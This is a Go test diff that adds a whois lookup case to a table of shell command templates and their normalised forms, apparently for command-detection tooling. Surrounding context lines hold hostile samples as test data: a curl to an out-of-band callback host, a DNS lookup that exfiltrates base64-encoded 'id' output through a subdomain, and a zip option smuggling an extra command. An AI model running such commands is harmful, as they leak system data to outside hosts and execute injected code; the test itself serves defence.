@@ -38,6 +38,8 @@ func TestCommandTemplate(t *testing.T) {
 		// a lookup's name is its data; its server and record type are not
 		{"a name looked up", []string{"sh", "-c", "dig +short +time=2 @127.0.0.1 -p 5353 MX 'example.org'"}, "sh -c dig +short +time=<n> @127.0.0.1 -p <n> MX '<name>'"},
 		{"a name looked up, argv", []string{"dig", "+short", "@10.0.0.2", "MX", "mail.example.net"}, "dig +short @10.0.0.2 MX <name>"},
+		// benign-shop-trophy: club domains checked with the registry's WHOIS
+		{"a domain's registration looked up", []string{"sh", "-c", "whois -h 127.0.0.1 -p 4343 'tsv-nordheim.de' 2>&1"}, "sh -c whois -h 127.0.0.1 -p <n> '<name>' <n>>&<n>"},
 		{"host's name, not a connect", []string{"sh", "-c", "host -t TXT x7k2.oast.example && curl -s http://x7k2.oast.example/"}, "sh -c host -t TXT <name> && curl -s http://x<n>k<n>.oast.example/"},
 		{"a substitution in the name stays", []string{"sh", "-c", "dig $(id | base64).example.com"}, "sh -c dig $(id | base<n>).example.com"},
 		{"an option is no file", []string{"zip", "--unzip-command=echo z-$((6*7))", "-T", "a.png"}, "zip --unzip-command=echo z-$((<n>*<n>)) -T <file>.png"},
